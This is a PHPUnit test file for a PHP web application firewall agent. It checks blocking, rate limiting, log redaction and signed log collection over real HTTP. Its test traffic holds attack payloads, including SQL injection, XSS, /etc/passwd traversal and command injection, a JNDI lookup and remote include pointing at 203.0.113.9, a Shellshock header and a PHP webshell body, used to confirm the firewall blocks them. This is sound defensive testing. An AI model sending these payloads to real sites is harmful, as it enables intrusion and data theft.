<?php
declare(strict_types=1);

use PHPUnit\Framework\TestCase;
use WebTotem\Tests\Support\PhpServer;

/**
 * The firewall agent, rendered by the core, hooked into a small site's
 * index.php and served by `php -S`, spoken to over real HTTP: benign
 * requests reach the site, attacks get a 403 with a request id and a log
 * line, floods a 429; the PCRE agent and the native one agree; the log
 * never holds secrets, and the WebTotem server reads it with signed
 * requests, every line once, across rotations; any failure inside the
 * agent lets the request through.
 */
final class FirewallAgentTest extends TestCase
{
    private const KEY = '00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff';
    private const STATE = 'wt-fw-state-7c1d';
    private const AGENT = 'wt-0123456789abcdef0123456789abcdef.php';

    private string $site = '';

    protected function setUp(): void
    {
        $this->site = sys_get_temp_dir() . '/wt-fw-site-' . bin2hex(random_bytes(6));
        mkdir($this->site);
        // The site: echoes what it got, so a test sees the request reached it.
        $index = "<?php\n\$seen = ['get' => array_keys(\$_GET), 'post' => array_keys(\$_POST), 'chained' => isset(\$chained) ? \$chained : null];\n"
            . "echo 'SITE ', json_encode(\$seen), \"\\n\";\n";
        file_put_contents($this->site . '/index.php', webtotem_firewall_hook($index, self::AGENT));
        $this->render([]);
    }

    protected function tearDown(): void
    {
        if ($this->site !== '') {
            exec('rm -rf ' . escapeshellarg($this->site) . ' ' . escapeshellarg($this->site . '.server.log'));
        }
    }

    private function render(array $config): void
    {
        file_put_contents($this->site . '/' . self::AGENT, webtotem_render_firewall_agent($config + [
            'site_key' => self::KEY,
            'state_dir_name' => self::STATE,
        ]));
    }

    private function log(): string
    {
        return (string) @file_get_contents($this->site . '/' . self::STATE . '/firewall.log');
    }

    /** @return list<array<string, mixed>> the request events of the log */
    private function events(): array
    {
        return webtotem_firewall_parse_log($this->log())['events'];
    }

    private static function get(PhpServer $s, string $target, array $headers = []): array
    {
        $head = "GET $target HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0";
        foreach ($headers as $name => $value) {
            $head .= "\r\n$name: $value";
        }
        return $s->raw($head);
    }

    private static function post(PhpServer $s, string $target, string $type, string $body, array $headers = []): array
    {
        $head = "POST $target HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: $type";
        foreach ($headers as $name => $value) {
            $head .= "\r\n$name: $value";
        }
        return $s->raw($head, $body);
    }

    /** Requests both engines must judge alike: [method, target, content type, body, headers]. */
    private static function traffic(): array
    {
        $form = 'application/x-www-form-urlencoded';
        $multipart = 'multipart/form-data; boundary=XYZ';
        return [
            ['GET', '/?q=hello+world&page=2', '', '', []],
            ['GET', '/?name=O%27Brien&city=D%27Angelo', '', '', []],
            ['GET', '/?s=select+the+best+union+of+flavours', '', '', []],
            ['GET', '/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', '', '', []],
            ['GET', '/?id=1%20OR%201%3D1', '', '', []],
            ['GET', '/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '', '', []],
            ['GET', '/?u=%22%20onmouseover%3D%22alert(1)', '', '', []],
            ['GET', '/?file=..%2F..%2F..%2Fetc%2Fpasswd', '', '', []],
            ['GET', '/?cmd=%3Bcat%20%2Fetc%2Fpasswd', '', '', []],
            ['GET', '/?page=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F', '', '', []],
            ['GET', '/?x=%7B%7B7*7%7D%7D', '', '', []],
            ['GET', '/', '', '', ['User-Agent' => 'sqlmap/1.7.2#stable (https://sqlmap.org)']],
            ['GET', '/', '', '', ['X-Api-Version' => '${jndi:ldap://203.0.113.9/a}']],
            ['GET', '/', '', '', ['Referer' => '() { :; }; /bin/bash -c id']],
            ['GET', '/', '', '', ['Cookie' => 'lang=en; pref=%27%20or%20%271%27%3D%271']],
            ['POST', '/', $form, 'comment=%3Cp%3EGreat+%3Cstrong%3Epost%3C%2Fstrong%3E%3C%2Fp%3E&name=Ann', []],
            ['POST', '/', $form, 'title=x&body=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B+%3F%3E', []],
            ['POST', '/', 'application/json', '{"user":{"name":"Ann","bio":"I like SQL"},"tags":["a","b"]}', []],
            ['POST', '/', 'application/json', '{"filter":"1\' or \'1\'=\'1","n":3}', []],
            ['POST', '/', 'application/json', '{"__proto__":{"admin":true}}', []],
            ['POST', '/', $multipart, "--XYZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XYZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xFF\xD8\xFF\r\n--XYZ--\r\n", []],
            ['POST', '/', $multipart, "--XYZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"shell.php\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a\r\n--XYZ--\r\n", []],
            ['POST', '/', 'text/xml', '<order><id>5</id></order>', []],
            ['GET', '/?data=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D', '', '', []],
        ];
    }

    private static function send(PhpServer $s, array $r, int $seq): array
    {
        $headers = $r[4] + ['X-Test-Seq' => (string) $seq];
        return $r[0] === 'GET' ? self::get($s, $r[1], $headers) : self::post($s, $r[1], $r[2], $r[3], $headers);
    }

    public function testBenignRequestsReachTheSiteAndAttacksAreBlockedAndLogged(): void
    {
        foreach ([false, true] as $native) {
            @unlink($this->site . '/' . self::STATE . '/firewall.log');
            $s = new PhpServer($this->site, $native);
            $ok = self::get($s, '/?q=hello+world');
            $this->assertSame(200, $ok['status']);
            $this->assertStringStartsWith('SITE {"get":["q"]', $ok['body']);
            $blocked = self::get($s, '/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--');
            $this->assertSame(403, $blocked['status']);
            $this->assertStringNotContainsString('SITE', $blocked['body']);
            $id = $blocked['headers']['x-webtotem-request-id'];
            $this->assertMatchesRegularExpression('/^[0-9a-f]{16}$/', $id);
            $this->assertStringContainsString($id, $blocked['body'], 'the page quotes the request id');
            $events = $this->events();
            $this->assertCount(1, $events, 'only the attack is logged');
            $this->assertSame([$id, 'blocked', 'sqli', $native ? 'native' : 'pcre'], [$events[0]['id'], $events[0]['action'], $events[0]['class'], $events[0]['engine']]);
            $this->assertContains('sqli-union-select', $events[0]['rules']);
        }
    }

    public function testThePcreAgentAndTheNativeAgentAgreeOverHttp(): void
    {
        $this->render(['flood_requests' => 0]);
        $results = [];
        foreach (['pcre' => false, 'native' => true] as $engine => $native) {
            @unlink($this->site . '/' . self::STATE . '/firewall.log');
            $s = new PhpServer($this->site, $native);
            $statuses = [];
            foreach (self::traffic() as $seq => $r) {
                $statuses[$seq] = self::send($s, $r, $seq)['status'];
            }
            $logged = [];
            foreach ($this->events() as $e) {
                $this->assertSame($engine, $e['engine']);
                $logged[] = [$e['action'], $e['class'], $e['score'], $e['rules']];
            }
            $results[$engine] = [$statuses, $logged];
        }
        $this->assertSame($results['pcre'], $results['native']);
        [$statuses] = $results['pcre'];
        $this->assertSame(200, $statuses[0]);
        $this->assertSame(403, $statuses[3]);
        $blocked = count(array_filter($statuses, fn ($c) => $c === 403));
        $this->assertGreaterThanOrEqual(15, $blocked, json_encode($statuses));
        foreach ([0, 1, 2, 15, 17, 20, 22] as $benign) {
            $this->assertSame(200, $statuses[$benign], "request $benign is benign");
        }
    }

    /** @return array<string, array{bool}> */
    public static function paths(): array
    {
        return ['PCRE path, counters in files' => [false], 'native path, shared counters' => [true]];
    }

    /** @dataProvider paths */
    public function testAFloodIsThrottledAndLoggedOnceAWindow(bool $native): void
    {
        $this->render(['flood_requests' => 10, 'flood_window' => 60]);
        $s = new PhpServer($this->site, $native);
        $codes = [];
        for ($i = 0; $i < 16; $i++) {
            $codes[] = self::get($s, '/?n=' . $i)['status'];
        }
        $this->assertSame(array_fill(0, 10, 200), array_slice($codes, 0, 10));
        $this->assertSame(array_fill(0, 6, 429), array_slice($codes, 10));
        $last = self::get($s, '/?n=x');
        $this->assertSame('60', $last['headers']['retry-after']);
        $throttled = array_values(array_filter($this->events(), fn ($e) => $e['action'] === 'throttled'));
        $this->assertCount(1, $throttled);
        $this->assertSame('flood', $throttled[0]['class']);
        // The native path keeps no counter files; the PCRE path does.
        $files = glob($this->site . '/' . self::STATE . '/flood/wtfw-*') ?: [];
        $this->assertSame($native, $files === [], json_encode($files));
    }

    /** @return array<string, array{bool, array<string, string>}> */
    public static function headerSources(): array
    {
        return [
            'getallheaders(), PCRE path' => [false, []],
            'getallheaders(), native path' => [true, []],
            '$_SERVER without getallheaders(), PCRE path' => [false, ['disable_functions' => 'getallheaders']],
            '$_SERVER without getallheaders(), native path' => [true, ['disable_functions' => 'getallheaders']],
        ];
    }

    /** @dataProvider headerSources */
    public function testHeadersAreInspectedWhereverTheyAreReadFrom(bool $native, array $ini): void
    {
        $s = new PhpServer($this->site, $native, $ini);
        $this->assertSame(200, self::get($s, '/', ['Accept-Language' => 'en-GB,en;q=0.9'])['status']);
        $r = self::get($s, '/', ['Referer' => 'https://example.com/"><script>alert(1)</script>']);
        $this->assertSame(403, $r['status']);
        $events = $this->events();
        $this->assertCount(1, $events, $this->log());
        $this->assertContains(['headers', 'referer'], array_map(fn ($m) => [$m['target'], $m['name']], $events[0]['matches']));
    }

    public function testMonitorModeLogsWithoutBlockingAndAllowListsAreNotInspected(): void
    {
        $this->render(['mode' => 'monitor']);
        $s = new PhpServer($this->site, false);
        $r = self::get($s, '/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E');
        $this->assertSame(200, $r['status']);
        $this->assertSame('monitored', $this->events()[0]['action']);

        $this->render(['allow_ips' => ['127.0.0.0/8']]);
        $this->assertSame(200, self::get($s, '/?q=%3Cscript%3E')['status']);
        $this->render(['allow_paths' => ['/health']]);
        $allowed = self::get($s, '/health/check?q=%3Cscript%3E');
        $this->assertSame([200, 'SITE'], [$allowed['status'], substr($allowed['body'], 0, 4)]);
        $this->assertSame(403, self::get($s, '/healthy?q=%3Cscript%3E')['status'], 'whole path segments only');
        $this->assertSame(403, self::get($s, '/?q=%3Cscript%3E')['status']);
        $this->render(['trusted_proxies' => ['127.0.0.1'], 'allow_ips' => ['198.51.100.7']]);
        $this->assertSame(200, self::get($s, '/?q=%3Cscript%3E', ['X-Forwarded-For' => '203.0.113.1, 198.51.100.7'])['status']);
        $this->assertSame(403, self::get($s, '/?q=%3Cscript%3E', ['X-Forwarded-For' => '198.51.100.7, 203.0.113.1'])['status']);
    }

    public function testTheLogHoldsNoSecretsAndNoInjectedLines(): void
    {
        $s = new PhpServer($this->site, false);
        $secret = 'S3cr3t-' . bin2hex(random_bytes(4));
        $r = self::post($s, '/?token=' . $secret . '&q=%3Cscript%3E', 'application/x-www-form-urlencoded',
            'password=' . $secret . '&card_number=' . $secret . '&note=' . rawurlencode("x\n{\"type\":\"request\",\"id\":\"forged\"}\r\n"),
            ['Cookie' => 'session=' . $secret, 'Authorization' => 'Bearer ' . $secret, 'X-Note' => "a\u{2028}b"]);
        $this->assertSame(403, $r['status']);
        $log = $this->log();
        $this->assertStringNotContainsString($secret, $log);
        $parsed = webtotem_firewall_parse_log($log);
        $this->assertSame(0, $parsed['skipped']);
        $this->assertSame(2, $parsed['lines'], 'the start line and one event: nothing injected');
        $event = $parsed['events'][0];
        $this->assertSame('***', $event['args']['password']);
        $this->assertSame("x\n{\"type\":\"request\",\"id\":\"forged\"}\r\n", $event['args']['note']);
        $this->assertStringContainsString('token=***', $event['uri']);
    }

    private function signedLogRequest(PhpServer $s, array $request, ?string $nonce = null): array
    {
        $body = json_encode(['action' => 'log'] + $request);
        $ts = time();
        $nonce = $nonce ?? bin2hex(random_bytes(16));
        return self::post($s, '/', 'application/json', $body, [
            'X-WebTotem-Timestamp' => (string) $ts,
            'X-WebTotem-Nonce' => $nonce,
            'X-WebTotem-Signature' => webtotem_sign_agent_request(self::KEY, $ts, $nonce, $body),
        ]);
    }

    public function testTheServerReadsTheLogWithSignedRequestsAndOthersGetTheSite(): void
    {
        $s = new PhpServer($this->site, false);
        for ($i = 0; $i < 3; $i++) {
            self::get($s, '/?q=%3Cscript%3Ealert(' . $i . ')%3C%2Fscript%3E');
        }
        $nonce = bin2hex(random_bytes(16));
        $r = $this->signedLogRequest($s, ['log_id' => '', 'offset' => 0], $nonce);
        $this->assertSame(200, $r['status']);
        $answer = json_decode($r['body'], true);
        $this->assertTrue($answer['ok']);
        $this->assertSame($this->log(), $answer['data']);
        $this->assertSame(3, count(webtotem_firewall_parse_log($answer['data'])['events']));
        $expected = hash_hmac('sha256', "response\n" . $nonce . "\n" . hash('sha256', $r['body']), hex2bin(self::KEY));
        $this->assertSame($expected, $r['headers']['x-webtotem-signature']);

        // Nothing new: an empty answer at the same place.
        $again = json_decode($this->signedLogRequest($s, $answer['next'])['body'], true);
        $this->assertSame('', $again['data']);
        $this->assertSame($answer['next'], $again['next']);

        // A replayed nonce, a wrong signature, a stale timestamp: the site's own answer.
        $replay = $this->signedLogRequest($s, ['log_id' => '', 'offset' => 0], $nonce);
        $this->assertStringStartsWith('SITE', $replay['body']);
        $body = '{"action":"log","offset":0}';
        foreach ([
            ['X-WebTotem-Timestamp' => (string) time(), 'X-WebTotem-Nonce' => bin2hex(random_bytes(16)), 'X-WebTotem-Signature' => str_repeat('0', 64)],
            ['X-WebTotem-Timestamp' => (string) (time() - 3600), 'X-WebTotem-Nonce' => $n = bin2hex(random_bytes(16)), 'X-WebTotem-Signature' => webtotem_sign_agent_request(self::KEY, time() - 3600, $n, $body)],
        ] as $headers) {
            $forged = self::post($s, '/', 'application/json', $body, $headers);
            $this->assertSame(200, $forged['status']);
            $this->assertStringStartsWith('SITE', $forged['body']);
            $this->assertArrayNotHasKey('x-webtotem-signature', $forged['headers']);
        }
    }

    public function testCollectingAcrossRotationsReadsEveryLineOnce(): void
    {
        $this->render(['log_max_bytes' => 65536, 'log_keep' => 3, 'flood_requests' => 0]);
        $s = new PhpServer($this->site, true);
        $cursor = ['log_id' => '', 'offset' => 0];
        $sent = [];
        $collected = [];
        for ($round = 0; $round < 6; $round++) {
            for ($i = 0; $i < 40; $i++) {
                $r = self::get($s, '/?q=%3Cscript%3Ealert(' . $round . $i . ')%3C%2Fscript%3E&pad=' . str_repeat('x', 200));
                $sent[] = $r['headers']['x-webtotem-request-id'];
            }
            // Read until there is nothing new.
            for ($k = 0; $k < 50; $k++) {
                $answer = json_decode($this->signedLogRequest($s, $cursor + ['max_bytes' => 8192])['body'], true);
                $this->assertFalse($answer['lost']);
                foreach (webtotem_firewall_parse_log($answer['data'], $answer['offset'])['events'] as $e) {
                    $collected[] = $e['id'];
                }
                $moved = $answer['next'] !== $cursor;
                $cursor = $answer['next'];
                if (!$moved) {
                    break;
                }
            }
        }
        $this->assertFileExists($this->site . '/' . self::STATE . '/firewall.log.1', 'the log was rotated');
        $this->assertSame($sent, $collected);
    }

    public function testAFailureInsideTheAgentLetsTheRequestThroughAndIsLogged(): void
    {
        $agent = $this->site . '/' . self::AGENT;
        $code = file_get_contents($agent);
        $broken = str_replace("function build_request(\$ip)\n{\n", "function build_request(\$ip)\n{\n    throw new \\RuntimeException('boom');\n", $code);
        $this->assertNotSame($code, $broken);
        file_put_contents($agent, $broken);
        $s = new PhpServer($this->site, false);
        $r = self::get($s, '/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E');
        $this->assertSame(200, $r['status']);
        $this->assertStringStartsWith('SITE', $r['body']);
        $errors = webtotem_firewall_parse_log($this->log())['agent_errors'];
        $this->assertSame('RuntimeException: boom', $errors[0]['message']);

        // No writable state at all: still no harm, attacks still blocked.
        file_put_contents($agent, $code);
        exec('rm -rf ' . escapeshellarg($this->site . '/' . self::STATE));
        file_put_contents($this->site . '/' . self::STATE, 'a file where the directory should be');
        $this->assertSame(200, self::get($s, '/?q=fine')['status']);
        $this->assertSame(403, self::get($s, '/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E')['status']);
    }

    public function testAnAutoPrependedAgentChainsThePreviousPrependFileInTheGlobalScope(): void
    {
        $previous = $this->site . '-previous.php';
        file_put_contents($previous, "<?php \$chained = 'yes';\n");
        $this->render(['chain_file' => $previous]);
        file_put_contents($this->site . '/index.php', "<?php\necho 'SITE ', json_encode(['chained' => isset(\$chained) ? \$chained : null]), \"\\n\";\n");
        $s = new PhpServer($this->site, false, ['auto_prepend_file' => $this->site . '/' . self::AGENT]);
        $this->assertSame("SITE {\"chained\":\"yes\"}\n", self::get($s, '/?q=ok')['body']);
        $this->assertSame(403, self::get($s, '/?q=%3Cscript%3E')['status']);
        @unlink($previous);
    }
}
